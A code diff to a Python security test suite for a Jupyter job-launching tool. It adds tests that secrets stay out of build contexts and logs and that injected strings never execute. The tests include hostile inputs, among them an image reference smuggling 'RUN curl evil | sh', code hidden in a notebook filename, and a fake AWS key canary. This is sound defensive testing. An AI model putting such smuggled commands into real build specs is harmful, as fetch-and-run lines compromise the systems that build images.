@@ -1,6 +1,7 @@
-"""Security, counted: secrets never reach a build context or an image, user strings never reach
-a shell, every REST endpoint refuses unauthenticated and cross-site requests, and everything a
-job writes is owner-only.
+"""Security, counted (tests/counted.py prints cases tried and held per item): secrets never
+reach a build context or an image, user strings never reach a shell or any other language,
+every REST endpoint refuses unauthenticated and cross-site requests, and everything a job writes
+is owner-only.
 
 * A corpus of project folders (flat, nested, home-like, symlinked, disguised) with planted
   secrets: each context's tar is read back (names and bytes); with Docker, the image's own layers.
@@ -12,12 +13,14 @@ job writes is owner-only.
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import os
 import re
 import shlex
 import stat
+import sys
 import tarfile
 import urllib.parse
 import uuid
@@ -25,19 +28,39 @@ from collections.abc import Awaitable, Callable
 from pathlib import Path
 from typing import Any
 
+import counted
 import pytest
 from jobutil import JOB_DEADLINE_S, plan_for, run_job, write_notebook
+from secret_corpus import ARCHIVE_FORMS, CONTENT_FORMS
 from tornado.httpclient import HTTPClientError, HTTPResponse
 
 from tfc_jupyter import cli, jobs
-from tfc_jupyter.errors import TfcError
+from tfc_jupyter.errors import SpecError, TfcError
 from tfc_jupyter.package import SecretInFile, secret_reason
 from tfc_jupyter.panel.memory import ChoiceMemory
 from tfc_jupyter.records import JobState
 from tfc_jupyter.server import handlers
 from tfc_jupyter.server.service import JobService
+from tfc_jupyter.spec import ImageSettings, JobSpec
 
 pytest_plugins = ("pytest_jupyter.jupyter_server",)
+
+ITEMS = [
+    "the kernel's environment stays off the disk",
+    "no secret or tool state in any build context",
+    "no secret in the image layers",
+    "every planted secret stops the plan, quoted nowhere",
+    "plan --json and the dry run list the build context",
+    "user strings reach no shell",
+    "strings that are not code never run",
+    "every REST endpoint requires auth and the same origin",
+    "everything a job writes is owner-only",
+]
+
+
+def test_every_item_has_cases() -> None:
+    counted.check_items(sys.modules[__name__])
+
 
 Fetch = Callable[..., Awaitable[HTTPResponse]]
 MARK = b"PLANTED-"
@@ -256,6 +279,7 @@ def _is_secret_file(path: Path, rel: str) -> bool:
     return secret_reason(rel, path) is not None or secret_reason(path.resolve().name) is not None
 
 
+@pytest.mark.item("no secret or tool state in any build context")
 @pytest.mark.parametrize("layout", sorted(LAYOUTS))
 def test_no_secret_in_any_build_context(tmp_path: Path, tfc_env: Path, layout: str) -> None:
     nb, declared = _make_layout(tmp_path, layout)
@@ -284,6 +308,7 @@ def test_no_secret_in_any_build_context(tmp_path: Path, tfc_env: Path, layout: s
     assert all(reason for _, reason in plan.context.left_out)
 
 
+@pytest.mark.item("no secret in the image layers")
 @pytest.mark.slow
 def test_no_secret_in_the_image_layers(
     tmp_path: Path, tfc_env: Path, docker_client: Any, tf_parent_image: str
@@ -382,6 +407,7 @@ def _cli_run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, 
     return code, out, err
 
 
+@pytest.mark.item("user strings reach no shell")
 @pytest.mark.slow
 def test_hostile_folder_and_notebook_names_reach_no_shell(
     tmp_path: Path, tfc_env: Path, canary: Canary, capsys: pytest.CaptureFixture[str]
@@ -400,6 +426,7 @@ def test_hostile_folder_and_notebook_names_reach_no_shell(
     assert canary.found() == []
 
 
+@pytest.mark.item("user strings reach no shell")
 @pytest.mark.slow
 def test_hostile_flags_reach_no_shell(
     tmp_path: Path, tfc_env: Path, canary: Canary, capsys: pytest.CaptureFixture[str]
@@ -435,6 +462,7 @@ def test_hostile_flags_reach_no_shell(
     assert canary.found() == []
 
 
+@pytest.mark.item("user strings reach no shell")
 @pytest.mark.slow
 def test_hostile_strings_through_the_magic_and_rest(
     tmp_path: Path, tfc_env: Path, canary: Canary, monkeypatch: pytest.MonkeyPatch
@@ -529,6 +557,7 @@ def _routes() -> list[tuple[str, str, tuple[str, ...]]]:
 ROUTE_CASES = _routes()
 
 
+@pytest.mark.item("every REST endpoint requires auth and the same origin")
 def test_routes_are_enumerated() -> None:
     patterns = {p for p, _, _ in ROUTE_CASES}
     assert patterns == {p for p, _ in handlers.ROUTES}
@@ -546,6 +575,7 @@ async def _status(fetch: Fetch, method: str, parts: tuple[str, ...], **kwargs: A
     return response.code
 
 
+@pytest.mark.item("every REST endpoint requires auth and the same origin")
 @pytest.mark.parametrize(("pattern", "method", "parts"), ROUTE_CASES)
 async def test_every_route_refuses_unauthenticated_requests(
     jp_fetch: Fetch, tfc_home: Path, pattern: str, method: str, parts: tuple[str, ...]
@@ -580,6 +610,7 @@ def _cookies(response: HTTPResponse, into: dict[str, str]) -> dict[str, str]:
     return into
 
 
+@pytest.mark.item("every REST endpoint requires auth and the same origin")
 async def test_every_route_refuses_cross_site_requests(
     jp_fetch: Fetch, jp_serverapp: Any, tfc_home: Path
 ) -> None:
@@ -621,6 +652,7 @@ def _loose(root: Path) -> list[str]:
     return loose
 
 
+@pytest.mark.item("everything a job writes is owner-only")
 @pytest.mark.slow
 def test_job_folders_logs_and_records_are_owner_only(tmp_path: Path, tfc_env: Path) -> None:
     old = os.umask(0o022)  # the usual umask: files are 0644 unless made private
@@ -639,3 +671,109 @@ def test_job_folders_logs_and_records_are_owner_only(tmp_path: Path, tfc_env: Pa
     print(f"[security] modes: {files} files under the job home")
     assert stat.S_IMODE(home.stat().st_mode) == 0o700
     assert _loose(home) == []
+
+
+# ================================================================ moved from the trust pass
+CANARY = "AKIAFAKE/canary-secret-value-0123456789"
+
+
+@pytest.mark.item("the kernel's environment stays off the disk")
+@pytest.mark.slow
+def test_the_kernels_environment_stays_off_the_disk(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """launch.json holds the job's variables only; the replica still sees the kernel's."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
+    digest = hashlib.sha256(CANARY.encode()).hexdigest()  # the notebook holds no canary
+    nb = write_notebook(
+        tmp_path / "nb.ipynb",
+        "import hashlib, os\nvalue = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()\n"
+        f"print('sees it:', hashlib.sha256(value).hexdigest() == {digest!r})",
+    )
+    _, record = run_job(nb, tmp_path / "home")
+    assert record.state is JobState.SUCCEEDED, record.error
+    job_dir = Path(record.job_dir)
+    assert "sees it: True" in (job_dir / "logs" / "chief.log").read_text()
+    for path in job_dir.rglob("*"):
+        if path.is_file():
+            assert CANARY.encode() not in path.read_bytes(), path
+    launch = json.loads((job_dir / "launch.json").read_text())
+    assert "AWS_SECRET_ACCESS_KEY" not in launch["env"] and "PATH" not in launch["env"]
+
+
+@pytest.mark.item("plan --json and the dry run list the build context")
+def test_plan_json_lists_the_build_context(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tfc_jupyter import cli
+
+    (tmp_path / "data").mkdir()
+    (tmp_path / "data" / "rows.csv").write_text("a\n1\n")
+    (tmp_path / "data" / ".env").write_text("TOKEN=x\n")
+    nb = write_notebook(tmp_path / "nb.ipynb", "x = 1")
+    assert cli.main(["plan", str(nb), "--json", "--backend", "docker", "--include", "data"]) == 0
+    context = json.loads(capsys.readouterr().out)["context"]
+    files = {f["path"]: f["bytes"] for f in context["files"]}
+    assert files["app/data/rows.csv"] == 4 and "Dockerfile" in files
+    assert {"path": "data/.env", "why": "secret: .env file", "reason": "secret: .env file"} in (
+        context["left_out"]
+    )
+    assert cli.main(["plan", str(nb), "--backend", "docker", "--include", "data"]) == 0
+    text = capsys.readouterr().out
+    assert (
+        "  app/data/rows.csv  4 B" in text and "  left out: data/.env (secret: .env file)" in text
+    )
+
+
+@pytest.mark.item("strings that are not code never run")
+@pytest.mark.parametrize("flag", ["parent_image", "image", "cache_from"])
+def test_image_references_cannot_carry_dockerfile_lines(flag: str) -> None:
+    with pytest.raises(SpecError, match="is not an image reference"):
+        JobSpec(image=ImageSettings(**{flag: "python:3.11\nRUN curl evil | sh"}))
+
+
+@pytest.mark.slow
+@pytest.mark.item("strings that are not code never run")
+def test_strings_that_are_not_code_never_run(tmp_path: Path, tfc_env: Path) -> None:
+    """A notebook name holding code, a %%capture argument holding code, an image reference
+    holding a Dockerfile line: the first is a comment in a job that runs, the others are
+    refused, and none of the code runs."""
+    marker = tmp_path / "RAN"  # the job's folder is the notebook's: a relative name lands here
+    evil = "x\nopen('RAN', 'w')\n"
+    nb = write_notebook(tmp_path / f"{evil}.ipynb", "print('plain job')")
+    _, record = run_job(nb, tmp_path / "home")
+    assert record.state is JobState.SUCCEEDED, record.error
+    assert "plain job" in (Path(record.job_dir) / "logs" / "chief.log").read_text()
+    cell = "%%capture print;open('RAN','w');x\nprint(1)"
+    with pytest.raises(TfcError, match="identifier"):
+        plan_for(write_notebook(tmp_path / "cap.ipynb", cell))
+    with pytest.raises(TfcError, match="is not an image reference"):
+        plan_for(nb, f"--backend docker --parent-image 'python:3.11\nRUN touch {marker}'")
+    assert not marker.exists()
+
+
+@pytest.mark.parametrize(
+    ("form", "content", "line"),
+    [*CONTENT_FORMS, *((f, d, 0) for f, d in ARCHIVE_FORMS)],
+    ids=lambda v: str(v)[:40],
+)
+@pytest.mark.item("every planted secret stops the plan, quoted nowhere")
+def test_every_planted_secret_stops_the_plan(
+    tmp_path: Path, form: str, content: str | bytes, line: int
+) -> None:
+    """Each planted form, in a neutrally named file the notebook's code reads, stops the plan
+    with one line naming the file (and its line), never quoting the secret."""
+    name = "bundle.zip" if line == 0 else "notes.txt"
+    data = content if isinstance(content, bytes) else content.encode()
+    (tmp_path / name).write_bytes(data)
+    nb = write_notebook(
+        tmp_path / "nb.ipynb",
+        f"%%tfc_run --backend docker --dry-run\nsize = len(open({name!r}, 'rb').read())",
+    )
+    with pytest.raises(SecretInFile) as info:
+        plan_for(nb)
+    text = str(info.value)
+    where = f"{name}, line {line} holds a secret" if line else f"{name}"
+    assert where in text and "Fix:" in text and "\n" not in text, (form, text)
+    for token in re.findall(rb"[A-Za-z0-9_/+.-]{16,}", data):
+        assert token.decode("latin-1") not in text, (form, token)
